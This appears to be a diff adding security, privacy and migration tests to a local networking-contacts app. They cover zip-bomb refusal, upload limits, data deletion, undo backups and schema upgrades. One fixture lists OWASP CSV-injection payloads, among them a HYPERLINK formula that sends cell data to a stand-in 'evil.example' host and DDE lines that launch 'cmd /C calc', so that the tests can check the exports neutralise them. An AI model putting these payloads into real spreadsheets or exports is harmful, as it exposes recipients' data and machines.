@@ -16,21 +16,31 @@ import shutil
 import subprocess
 import sys
 import threading
+import tomllib
+import tracemalloc
+import zipfile
 from datetime import UTC, date, datetime
 from pathlib import Path
 
 import duckdb
 import pytest
+from openpyxl import load_workbook
 from streamlit.testing.v1 import AppTest
 
 from benchmarks import generate
 from infoint import (
+    cli,
     contacts,
     db,
+    demo,
+    export,
     followups,
     importer,
     interactions,
+    linkedin,
     meetings,
+    settings,
+    targets,
     ui,
 )
 from infoint.errors import ConflictError
@@ -422,3 +432,492 @@ def test_a_backup_blocked_by_an_open_write_says_so_in_one_sentence(conn, db_path
         other.execute("ROLLBACK")
     assert db.list_backups(db_path) == []
     assert db.backup(conn).is_file()  # once the other write is over, it works
+
+
+# --- 3. Hostile and odd input -------------------------------------------------------------
+
+
+def test_the_fuzz_test_is_derandomised_and_bounded_under_ci():
+    """`.ci/run` sets CI; then every fuzz test replays the same, bounded set of examples."""
+    assert "CI=true" in (ROOT / ".ci" / "run").read_text()
+    code = (
+        "import sys\n"
+        "sys.path.insert(0, 'tests')\n"
+        "import conftest, test_linkedin_fuzz as fuzz\n"
+        "for name in sorted(dir(fuzz)):\n"
+        "    found = getattr(getattr(fuzz, name), '_hypothesis_internal_use_settings', None)\n"
+        "    if found is not None:\n"
+        "        print(name, found.derandomize, found.database is None, found.max_examples)\n"
+    )
+    done = subprocess.run(
+        [sys.executable, "-c", code],
+        capture_output=True,
+        text=True,
+        cwd=ROOT,
+        env={**os.environ, "CI": "true"},
+        check=True,
+    )
+    tests = [line.split() for line in done.stdout.splitlines()]
+    assert len(tests) >= 5, done.stdout
+    for name, derandomised, no_database, examples in tests:
+        assert (derandomised, no_database) == ("True", "True"), name
+        assert 1 <= int(examples) <= 100, name
+
+
+def _uploaders(path: Path) -> list[ast.Call]:
+    return [
+        node
+        for node in ast.walk(ast.parse(path.read_text()))
+        if isinstance(node, ast.Call)
+        and isinstance(node.func, ast.Attribute)
+        and node.func.attr == "file_uploader"
+    ]
+
+
+def _megabytes(path: Path, value: ast.expr) -> int:
+    """A max_upload_size given as a number or as a module-level constant of the page."""
+    if isinstance(value, ast.Constant):
+        return int(value.value)
+    assert isinstance(value, ast.Name), ast.unparse(value)
+    for node in ast.parse(path.read_text()).body:
+        if isinstance(node, ast.Assign) and any(
+            isinstance(target, ast.Name) and target.id == value.id for target in node.targets
+        ):
+            return int(ast.literal_eval(node.value))
+    raise AssertionError(f"{path.name}: {value.id} is not a constant of the page")
+
+
+def test_every_upload_is_bounded_by_the_config_and_by_its_widget():
+    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
+    server_limit = config["server"]["maxUploadSize"]
+    assert server_limit <= 50
+    assert server_limit * 1024 * 1024 >= linkedin.MAX_UPLOAD_BYTES
+    found = 0
+    for path in [ROOT / "app.py", *sorted((ROOT / "pages").glob("*.py"))]:
+        for call in _uploaders(path):
+            found += 1
+            sizes = [k.value for k in call.keywords if k.arg == "max_upload_size"]
+            assert sizes, f"{path.name}:{call.lineno} has no max_upload_size"
+            assert 1 <= _megabytes(path, sizes[0]) <= server_limit, f"{path.name}:{call.lineno}"
+    assert found >= 3  # LinkedIn export, target list, LinkedIn history
+
+
+def zeros_zip(megabytes: int) -> bytes:
+    """A zip whose Connections.csv unpacks to `megabytes` MB of zeros (built 1 MB at a time)."""
+    buffer = io.BytesIO()
+    with (
+        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
+        archive.open("Connections.csv", "w", force_zip64=True) as member,
+    ):
+        block = bytes(1024 * 1024)
+        for _ in range(megabytes):
+            member.write(block)
+    return buffer.getvalue()
+
+
+@pytest.fixture(scope="module")
+def bomb(tmp_path_factory) -> Path:
+    path = tmp_path_factory.mktemp("bomb") / "linkedin-archive.zip"
+    path.write_bytes(zeros_zip(linkedin.MAX_MEMBER_BYTES // 1024 // 1024 + 20))
+    return path
+
+
+def test_a_zip_bomb_at_the_command_line_is_refused_before_unpacking(bomb, conn, db_path, capsys):
+    contacts.add_contact(conn, "Ana")
+    before = settings.fingerprint(conn)
+    conn.close()
+    tracemalloc.start()
+    try:
+        code = cli.main(["--db", str(db_path), "import", str(bomb)])
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    out, err = capsys.readouterr()
+    assert (code, out) == (2, "")
+    assert err.count("\n") == 1 and "was not opened" in err
+    assert peak < 10 * 1024 * 1024  # the 120 MB inside were never held
+    reopened = db.connect(db_path)
+    try:
+        assert settings.fingerprint(reopened) == before
+        assert db.list_backups(db_path) == []
+    finally:
+        reopened.close()
+
+
+def test_a_zip_bomb_uploaded_on_the_page_is_one_sentence_and_changes_nothing(bomb, app_db):
+    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
+    at.switch_page("pages/8_import_export.py")
+    at.run()
+    uploader = next(u for u in at.get("file_uploader") if "LinkedIn" in u.label)
+    uploader.set_value((bomb.name, bomb.read_bytes(), "application/zip"))
+    at.run()
+    next(b for b in at.button if b.label == "Import").click()
+    at.run()
+    assert not at.exception
+    [error] = [e.value for e in at.error]
+    assert "was not opened" in error and error.count(". ") == 0
+    conn = db.connect(app_db)
+    try:
+        assert conn.execute("SELECT count(*) FROM import_batches").fetchall() == [(0,)]
+        assert db.list_backups(app_db) == []
+    finally:
+        conn.close()
+
+
+# --- 4. Exports that can't attack ---------------------------------------------------------
+
+# OWASP's CSV-injection starts (=, +, -, @, tab, carriage return), alone and in known payloads.
+HOSTILE = (
+    "=1+2",
+    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+    "=cmd|' /C calc'!A0",
+    "+SUM(A1:A9)",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+2",
+    "\r=1+2",
+    '=DDE("cmd";"/C calc";"!A0")',
+)
+
+
+@pytest.fixture
+def hostile(conn):
+    """A person per hostile value as their name, company, title and notes, kept untrimmed
+    (the forms trim names, but notes keep a leading tab)."""
+    with db.transaction(conn):
+        for n, value in enumerate(HOSTILE):
+            [(company,)] = conn.execute(
+                "INSERT INTO companies (name, match_key) VALUES (?, company_key(?)) RETURNING id",
+                [f"{value} {n}", f"{value} {n}"],
+            ).fetchall()
+            conn.execute(
+                "INSERT INTO contacts (profile_key, first_name, last_name, company_id, position,"
+                " notes) VALUES (?, ?, ?, ?, ?, ?)",
+                [f"hostile:{n}", value, f"Person {n}", company, value, value],
+            )
+    return conn
+
+
+def test_the_workbook_holds_every_hostile_value_as_quoted_text(hostile):
+    book = load_workbook(io.BytesIO(export.workbook_bytes(hostile)))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    # XML reads a bare carriage return back as a line feed; the text is otherwise exact.
+    hostile_texts = {value.replace("\r", "\n") for value in HOSTILE} | {
+        f"{value} {n}".replace("\r", "\n") for n, value in enumerate(HOSTILE)
+    }
+    found = [cell for cell in cells if cell.value in hostile_texts]
+    assert {cell.value for cell in found} == hostile_texts  # names, companies, titles, notes
+    assert len(found) >= 4 * len(HOSTILE)
+    risky = [
+        cell
+        for cell in cells
+        if isinstance(cell.value, str) and cell.value.startswith(export.FORMULA_TRIGGERS)
+    ]
+    for cell in [*found, *risky]:
+        assert (cell.data_type, cell.quotePrefix) == ("s", True), cell.coordinate
+
+
+def test_the_csv_quotes_every_hostile_value_and_our_own_import_takes_the_quote_off(hostile):
+    data = export.contacts_csv_bytes(hostile)
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    assert len(rows) == len(HOSTILE)
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(export.FORMULA_TRIGGERS), value
+    assert {row["First name"] for row in rows} == {"'" + value for value in HOSTILE}
+    assert {row["Notes"] for row in rows} == {"'" + value for value in HOSTILE}
+
+    # The same file as a target list (its "Company" column is the name): quotes come off, so
+    # every company is found again by its exact name and none is added twice.
+    preview = targets.read_target_list(data, "infoint-contacts.csv")
+    assert preview.problems == []
+    names = set(preview.frame["name"])
+    assert names == {f"{value} {n}" for n, value in enumerate(HOSTILE)}
+    companies_before = hostile.execute("SELECT count(*) FROM companies").fetchall()
+    done = targets.import_target_list(hostile, preview)
+    assert (done.added, done.updated) == (0, len(HOSTILE))
+    assert hostile.execute("SELECT count(*) FROM companies").fetchall() == companies_before
+
+
+# --- 5. Privacy: deleting a person leaves nothing about them ------------------------------
+
+MARK = "zyxwvq"  # written into every field about the person to delete, and nowhere else
+MONDAY = datetime(2026, 3, 2, 10, 0)
+CHECK_DAY = date(2026, 3, 11)  # seven business days after MONDAY: every rule has fired
+EXPORT_HEAD = "Notes:\n\nFirst Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
+
+
+def _linkedin_row(position: str) -> bytes:
+    return (
+        EXPORT_HEAD + f"Gone,{MARK.title()},https://www.linkedin.com/in/{MARK},{MARK}@mail.example,"
+        f"Acme,{position},01 Jan 2024"
+    ).encode()
+
+
+def _keys_about(conn, person: int, day: date) -> dict[str, str]:
+    return {
+        item.key: item.kind for item in followups.due_items(conn, day) if item.contact_id == person
+    }
+
+
+def _leftovers(conn, person: int, meeting_ids: list[int], keys: list[str]) -> list[str]:
+    """Every place in the schema that still mentions the person or their events."""
+    found = []
+    columns = conn.execute(
+        "SELECT table_name, column_name, data_type FROM duckdb_columns()"
+        " WHERE database_name = current_database() AND schema_name = 'main'"
+    ).fetchall()
+    for table, column, kind in columns:
+        if kind == "VARCHAR":
+            where, params = f'contains(lower("{column}"), ?)', [MARK]
+        elif column in ("contact_id", "mutual_contact_id", "referred_by"):
+            where, params = f'"{column}" = ?', [person]
+        elif column == "meeting_id":
+            where, params = f'list_contains(?, "{column}")', [meeting_ids]
+        else:
+            continue
+        [(count,)] = conn.execute(
+            f'SELECT count(*) FROM "{table}" WHERE {where}', params
+        ).fetchall()
+        if count:
+            found.append(f"{table}.{column}: {count}")
+    [(states,)] = conn.execute(
+        "SELECT count(*) FROM due_item_states WHERE list_contains(?, item_key)", [keys]
+    ).fetchall()
+    if states:
+        found.append(f"due_item_states: {states}")
+    return found
+
+
+def test_deleting_a_person_leaves_no_row_about_them_or_their_events(conn):
+    importer.import_file(conn, _linkedin_row("PM"), filename="Connections.csv")
+    importer.import_file(conn, _linkedin_row("Lead PM"), filename="Connections.csv")
+    [(gone,)] = conn.execute("SELECT id FROM contacts").fetchall()
+    contacts.update_contact(
+        conn,
+        gone,
+        email=f"{MARK}@home.example",
+        degree="1st",
+        mutual_contact_id=None,
+        notes=f"met {MARK} at a fair",
+        tags=MARK,
+    )
+    contacts.add_contact(conn, "Stay", "Here", company="Acme")  # someone else to try there
+    keep = contacts.add_contact(conn, "Keep", "Me", company="Globex")
+    interactions.log_interaction(
+        conn, gone, "outreach", occurred_at=MONDAY, subject=f"Hello {MARK}", body=MARK
+    )
+    interactions.log_interaction(conn, keep, "outreach", occurred_at=MONDAY)
+    # The silence reminders, each snoozed or dismissed.
+    silence = _keys_about(conn, gone, CHECK_DAY)
+    [kept_key] = _keys_about(conn, keep, CHECK_DAY)
+    followups.dismiss(conn, kept_key)
+    # Then meetings: held (thank-you due), tomorrow (prepare) and over without an outcome.
+    held = meetings.schedule_meeting(conn, gone, datetime(2026, 3, 9, 10, tzinfo=UTC), place=MARK)
+    meetings.set_outcome(conn, held, "held", actual_minutes=20, notes=MARK)
+    tomorrow = meetings.schedule_meeting(conn, gone, datetime(2026, 3, 12, 15, tzinfo=UTC))
+    over = meetings.schedule_meeting(conn, gone, datetime(2026, 3, 10, 14, tzinfo=UTC))
+    meeting_reminders = _keys_about(conn, gone, CHECK_DAY)
+    reminders = silence | meeting_reminders
+    assert set(reminders.values()) == set(followups.KIND_LABELS)  # every kind of reminder
+    for n, key in enumerate(reminders):
+        if n % 2:
+            followups.dismiss(conn, key)
+        else:
+            followups.snooze(conn, key, date(2026, 4, 1), today=CHECK_DAY)
+    question = conn.execute("SELECT min(id) FROM questions").fetchall()[0][0]
+    meetings.save_prep(conn, held, question_ids=[question], prep_notes=MARK)
+    with db.transaction(conn):
+        conn.execute("UPDATE meeting_questions SET answer = ? WHERE meeting_id = ?", [MARK, held])
+    contacts.add_contact(
+        conn, "Introduced", "Friend", referred_by=gone, mutual_contact_id=gone, degree="2nd"
+    )
+    their_meetings = [held, tomorrow, over]
+    keys = list(reminders)
+    assert len(_leftovers(conn, gone, their_meetings, keys)) >= 12  # the check sees them all
+
+    removed = contacts.delete_contact(conn, gone)
+
+    assert removed == contacts.Moved(interactions=1, meetings=3, changes=1)
+    assert _leftovers(conn, gone, their_meetings, keys) == []
+    # Everyone else's rows stay: the introduced friend (unlinked), Keep's outreach and reminder.
+    assert conn.execute(
+        "SELECT first_name, referred_by, mutual_contact_id FROM contacts ORDER BY id"
+    ).fetchall() == [("Stay", None, None), ("Keep", None, None), ("Introduced", None, None)]
+    assert conn.execute("SELECT item_key FROM due_item_states").fetchall() == [(kept_key,)]
+    assert conn.execute("SELECT count(*) FROM interactions").fetchall() == [(1,)]
+
+
+def test_a_merge_carries_snoozes_and_dismissals_with_the_events(conn):
+    """Reminder keys name the event, and a merge moves events without changing their ids."""
+    kept = contacts.add_contact(conn, "Ana", "Lee", company="Acme")
+    twin = contacts.add_contact(conn, "Ana", "Lee", company="Acme", email="ana@acme.example")
+    contacts.add_contact(conn, "Bo", "Berg", company="Acme")
+    outreach = interactions.log_interaction(conn, twin, "outreach", occurred_at=MONDAY)
+    assert {item.key for item in followups.due_items(conn, CHECK_DAY)} == {
+        f"follow_up:{outreach}",
+        f"try_another:{outreach}",
+    }
+    followups.snooze(conn, f"follow_up:{outreach}", date(2026, 3, 20), today=CHECK_DAY)
+    followups.dismiss(conn, f"try_another:{outreach}")
+    states_before = conn.execute("SELECT * FROM due_item_states ORDER BY ALL").fetchall()
+
+    contacts.merge_contacts(conn, kept, twin)
+
+    assert conn.execute("SELECT * FROM due_item_states ORDER BY ALL").fetchall() == states_before
+    assert followups.due_items(conn, CHECK_DAY) == []  # still snoozed and dismissed
+    [back] = followups.due_items(conn, date(2026, 3, 20))  # the snooze is over
+    assert (back.key, back.contact_id) == (f"follow_up:{outreach}", kept)
+
+
+DEMO_DAY = date(2026, 5, 13)
+
+
+def test_removing_the_demo_leaves_the_users_import_and_events_exactly_as_they_were(conn):
+    importer.import_file(conn, ROOT / "tests" / "fixtures" / "linkedin" / "current.csv")
+    own = [row[0] for row in conn.execute("SELECT id FROM contacts ORDER BY id").fetchall()]
+    outreach = interactions.log_interaction(
+        conn, own[0], "outreach", occurred_at=datetime(2026, 5, 1, 9)
+    )
+    meetings.schedule_meeting(conn, own[1], datetime(2026, 5, 20, 9, tzinfo=UTC))
+    followups.dismiss(conn, f"follow_up:{outreach}")
+    contacts.update_contact(
+        conn, own[2], email="", degree="2nd", mutual_contact_id=own[1], notes="mine", tags="x"
+    )
+    before = settings.fingerprint(conn)
+
+    demo.load_demo(conn, today=DEMO_DAY)
+    # The user works with the demo too: logs, meets and snoozes reminders about demo people.
+    demo_people = conn.execute(
+        "SELECT id FROM contacts WHERE source = 'demo' ORDER BY id LIMIT 2"
+    ).fetchall()
+    interactions.log_interaction(conn, demo_people[0][0], "note", body="looks promising")
+    meetings.schedule_meeting(conn, demo_people[1][0], datetime(2026, 5, 21, 9, tzinfo=UTC))
+    demo_reminders = [
+        item.key for item in followups.due_items(conn, DEMO_DAY) if item.contact_id not in own
+    ]
+    assert demo_reminders
+    for key in demo_reminders:
+        followups.dismiss(conn, key)
+
+    demo.remove_demo(conn)
+
+    assert settings.fingerprint(conn) == before  # every table, the user's rows to the byte
+    assert not demo.has_demo(conn)
+
+
+# --- 6. Undo: a backup before each import, the last five kept -----------------------------
+
+
+def test_each_import_backs_up_first_and_the_last_five_backups_stay(conn, db_path):
+    rows = []
+    for n in range(7):
+        rows.append(f"P{n},Person,https://www.linkedin.com/in/p-{n},,Acme,Role,01 Jan 2024")
+        data = (EXPORT_HEAD + "\n".join(rows)).encode()
+        report = settings.import_with_undo(conn, data, filename=f"export-{n}.csv")
+        assert report.added == 1
+    backups = db.list_backups(db_path)
+    assert len(backups) == db.BACKUPS_KEPT == 5
+    assert {backup.parent for backup in backups} == {db_path.parent / "backups"}
+    offer = settings.undo_offer(conn)
+    assert (offer.file_name, offer.backup) == ("export-6.csv", backups[0])
+    copy = duckdb.connect(str(backups[0]), read_only=True)
+    try:  # the newest backup is the data just before the last import: six people
+        assert copy.execute("SELECT count(*) FROM contacts").fetchall() == [(6,)]
+    finally:
+        copy.close()
+
+
+# --- 7. Migrations: data written at each schema version survives every later one ----------
+
+
+def _rows(conn) -> dict[str, tuple[list[str], list[tuple]]]:
+    tables = conn.execute(
+        "SELECT table_name FROM duckdb_tables() WHERE database_name = current_database()"
+        " AND table_name <> 'migrations'"
+    ).fetchall()
+    found = {}
+    for (table,) in tables:
+        result = conn.execute(f'SELECT * FROM "{table}"')
+        columns = [column[0] for column in result.description]
+        found[table] = (columns, sorted(map(repr, result.fetchall())))
+    return found
+
+
+def _still_there(conn, earlier: dict[str, tuple[list[str], list[str]]]) -> list[str]:
+    """Tables whose earlier rows (in the columns they had then) are not all still there."""
+    lost = []
+    for table, (columns, rows) in earlier.items():
+        now = conn.execute(f'SELECT {", ".join(columns)} FROM "{table}"').fetchall()
+        if not set(rows) <= set(map(repr, now)):
+            lost.append(table)
+    return lost
+
+
+def test_data_written_at_every_schema_version_survives_the_later_migrations(db_path):
+    old = duckdb.connect(str(db_path))
+    stages = [
+        # schema 1: the whole first data model
+        """
+        INSERT INTO companies (id, name, match_key, industry, status) VALUES
+            (7, 'Acme Inc.', 'acme', 'Health', 'target');
+        INSERT INTO contacts (id, profile_key, first_name, last_name, company_id, notes) VALUES
+            (3, 'https://www.linkedin.com/in/ana', 'Ana', 'Lee', 7, 'met at a fair'),
+            (4, 'manual:bo', 'Bo', 'Ng', 7, '');
+        UPDATE contacts SET referred_by = 3 WHERE id = 4;
+        INSERT INTO interactions (id, contact_id, kind, occurred_at, subject) VALUES
+            (5, 3, 'outreach', '2026-01-05 09:00', 'Coffee?');
+        INSERT INTO meetings (id, contact_id, starts_at, status, notes) VALUES
+            (6, 3, '2026-01-12 10:00+00', 'held', 'useful');
+        INSERT INTO questions (text, category, need) VALUES ('Mine?', 'advice', 'company');
+        INSERT INTO meeting_questions (meeting_id, question, answer) VALUES (6, 'Q?', 'A.');
+        INSERT INTO templates (name, subject, body) VALUES ('Mine', 'Hi', 'Hello {first_name}');
+        INSERT INTO import_batches (file_name, sha256, added) VALUES ('Connections.csv', 'ab', 1);
+        INSERT INTO contact_changes (contact_id, field, old_value, new_value, batch_id) VALUES
+            (3, 'position', 'PM', 'Lead PM', 1);
+        UPDATE profile SET name = 'Me', focus = 'product design', time_zone = 'Europe/Oslo';
+        INSERT INTO ruled_out_industries (industry, reason) VALUES ('Mining', 'not for me');
+        """,
+        # schema 2 (outreach): built-in templates, edited; snoozes and dismissals
+        """
+        UPDATE templates SET body = body || ' (edited)' WHERE builtin AND id = (
+            SELECT min(id) FROM templates WHERE builtin);
+        INSERT INTO due_item_states (item_key, snoozed_until, dismissed) VALUES
+            ('follow_up:5', '2026-02-01', false), ('try_another:5', NULL, true);
+        """,
+        # schema 3 (meetings): the built-in question bank, one archived
+        """
+        UPDATE questions SET archived = true WHERE builtin AND id = (
+            SELECT min(id) FROM questions WHERE builtin);
+        """,
+        # schema 4 (import undo)
+        """
+        INSERT INTO import_undo (batch_id, backup_file, fingerprint) VALUES (1, 'b.duckdb', 'f');
+        """,
+    ]
+    written: dict = {}
+    for version, sql in enumerate(stages, start=1):
+        db.apply_migrations(old, upto=version)
+        assert _still_there(old, written) == [], f"lost by migration {version}"
+        old.execute(sql)
+        written = _rows(old)
+    old.close()
+    assert len(stages) <= len(db.migrations())
+
+    upgraded = db.connect(db_path)  # today's code: every migration not yet applied
+    try:
+        assert _still_there(upgraded, written) == []
+        applied = upgraded.execute("SELECT list(version ORDER BY version) FROM migrations")
+        assert applied.fetchall()[0][0] == [m.version for m in db.migrations()]
+        assert upgraded.execute("SELECT count(*) FROM templates WHERE builtin").fetchall() == [
+            (4,)
+        ]  # seeds are not added twice
+        assert upgraded.execute(
+            "SELECT stage FROM contact_stages ORDER BY contact_id"
+        ).fetchall() == [
+            (4,),
+            (0,),
+        ]
+    finally:
+        upgraded.close()
